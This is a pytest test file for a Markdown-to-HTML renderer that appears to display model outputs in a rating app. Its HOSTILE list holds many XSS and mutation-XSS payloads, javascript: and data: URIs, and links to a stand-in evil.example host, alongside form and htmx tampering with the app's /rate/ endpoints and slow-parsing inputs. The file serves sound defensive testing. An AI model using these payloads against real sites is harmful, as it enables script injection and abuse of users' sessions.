"""Outputs become safe HTML: Markdown for people, nothing that runs, loads, submits or leads into the application."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from experiments.rendering import CUT, TAGS, is_safe, render, render_plain

ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "code": {"class"},
    "span": {"class"},
    "ol": {"start"},
    "th": {"align"},
    "td": {"align"},
    "pre": {"tabindex"},
    "table": {"tabindex"},
}
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=preload as=image href=https://evil.example/x.png>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=/rate/ method=post><button name=verdict value=left>A better</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<body onload=alert(1)>",
    "<div style='position:fixed;inset:0'>over everything</div>",
    "<div style=background:url(https://evil.example/x)>x</div>",
    "<div hx-get=/rate/undo/ hx-trigger=load>x</div>",
    "<div data-hx-post=/rate/ hx-on:load=alert(1)>x</div>",
    "<p id=verdict class=card name=token>clobbered</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<!--<img src='--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<x onclick=alert(1)>click</x>",
    "<p\x0conmouseover=alert(1)>x</p>",
    "<img src='x'\x00onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](  javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](/rate/undo/)",
    "[x](//evil.example/x)",
    "[x](#verdict)",
    "[x](?verdict=left)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://evil.example/'onclick='alert(1)>",
    '[x](https://evil.example/"onclick="alert(1))',
    '[x](https://evil.example "title" onclick=alert(1))',
    "[x](https://evil.example '\"><img src=x onerror=alert(1)>')",
    "![x](https://evil.example/x.png)",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](https://evil.example/x.png)',
    "[![x](https://evil.example/x.png)](javascript:alert(1))",
    '```python"><img src=x onerror=alert(1)>\nx\n```',
    "```<script>\nalert(1)\n```",
    "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
    '```js onload=alert(1) class="card"\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "|<img src=x onerror=alert(1)>|b|\n|-|-|\n|[x](javascript:alert(1))|<script>alert(1)</script>|",
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "\\(<img src=x onerror=alert(1)>\\)",
    "$$<script>alert(1)</script>$$",
]


class Inspector(HTMLParser):
    """Reads HTML as a browser would and complains of everything that is not on the list."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.complaints: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.complaints.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, set()):
                self.complaints.append(f"<{tag} {name}>")
            if name == "href" and not re.match(r"(?:https?://|mailto:)", value or ""):
                self.complaints.append(f"href {value}")
            if name == "class" and not re.fullmatch(r"language-[a-z0-9]+|[a-z][a-z0-9]{0,3}|err", value or ""):
                self.complaints.append(f"class {value}")

    def handle_comment(self, data: str) -> None:
        self.complaints.append("a comment")

    def handle_decl(self, decl: str) -> None:
        self.complaints.append("a declaration")


def complaints(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.complaints


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_outputs_are_inert(text: str) -> None:
    for shown in (text, f"Before {text} after", f"- item\n\n  {text}\n"):
        assert complaints(render(shown)) == []
        assert set(re.findall(r"<(\w+)", render_plain(shown))) <= {"div", "p"}


def test_the_corpus_is_large_and_the_inspector_sees_what_is_wrong() -> None:
    assert len(HOSTILE) >= 60
    assert complaints("<p onclick=x><img><a href='/x'>") == ["<p onclick>", "<img>", "href /x"]


@given(st.text(max_size=200) | st.lists(st.sampled_from(HOSTILE), max_size=3).map("\n".join))
@settings(max_examples=200, deadline=None)
def test_any_text_gives_inert_html(text: str) -> None:
    html = render(text)
    assert complaints(html) == []
    assert is_safe(html)


@pytest.mark.parametrize("text", HOSTILE)
def test_markup_of_our_own_is_known_again_and_hostile_markup_is_not(text: str) -> None:
    assert is_safe(render(text))
    assert not (is_safe(text) and complaints(text))
    assert not is_safe(f"{render(text)}<script>alert(1)</script>")


def test_markdown_is_shown_as_people_know_it() -> None:
    html = render("**bold** *em* ~~gone~~ `code`\n\n1. one\n2. two\n\n> said\n\n---")
    for tag in ("strong", "em", "del", "code", "ol", "li", "blockquote", "hr"):
        assert f"<{tag}>" in html


def test_headings_never_outrank_those_of_the_page() -> None:
    html = render("# a\n\n## b\n\n### c\n\n#### d\n\nunder\n=====")
    assert re.findall(r"<(h\d)>", html) == ["h3", "h4", "h5", "h6", "h3"]


def test_code_is_coloured_by_classes_alone() -> None:
    html = render("```python\ndef f(): return 'x'\n```")
    assert '<code class="language-python">' in html
    assert '<span class="k">def</span>' in html
    assert "style" not in html


def test_code_in_an_unknown_language_is_shown_uncoloured() -> None:
    assert "<code>x &lt; y\n</code>" in render("```klingon\nx < y\n```")


def test_wide_code_and_tables_can_be_reached_by_keyboard() -> None:
    html = render("```\nx\n```\n\n    indented\n\n|a|b|\n|:-|-:|\n|1|2|")
    assert html.count('<pre tabindex="0">') == 2
    assert '<table tabindex="0">' in html
    assert '<td align="right">2</td>' in html


def test_images_are_shown_by_their_words() -> None:
    assert render("![a *red* kite](https://example.org/kite.png)") == "<p>[image: a red kite]</p>\n"


def test_links_tell_nobody_where_they_were_clicked() -> None:
    html = render('[x](https://example.org/a?b=1&c=2 "seen")')
    assert 'href="https://example.org/a?b=1&amp;c=2"' in html
    assert 'title="seen"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_formulas_stay_as_they_were_written() -> None:
    assert render("\\(a_1 * b_1\\) and \\[x_1 * y_1\\] and $$a_b*c*$$") == (
        "<p>\\(a_1 * b_1\\) and \\[x_1 * y_1\\] and $$a_b*c*$$</p>\n"
    )


def test_only_the_first_hundred_kilobytes_are_shown_and_it_says_so() -> None:
    html = render("ä " * 60_000)
    assert len(html.encode()) < 101_000
    assert CUT in html
    assert CUT not in render("ä " * 30_000)
    assert CUT in render_plain("x" * 100_001)


def test_plain_text_is_shown_letter_by_letter() -> None:
    assert render_plain("**a**\n <b>") == '<div class="plaintext">**a**\n &lt;b&gt;</div>\n'


@pytest.mark.parametrize(
    "text",
    [
        "[" * 20_000,
        "![a" * 8_000,
        "\\(" * 20_000,
        "$$a" * 8_000,
        "*a_" * 8_000,
        "`" * 30_000,
        "> " * 8_000,
        "```python\n" + " \n" * 9_000 + "```",
        "```java\n" + "a\n" * 9_000 + "```",
        "```c\n" + "(" * 19_000 + "\n```",
    ],
)
def test_texts_made_to_be_slow_are_not(text: str) -> None:
    start = time.process_time()
    render(text)
    assert time.process_time() - start < 4
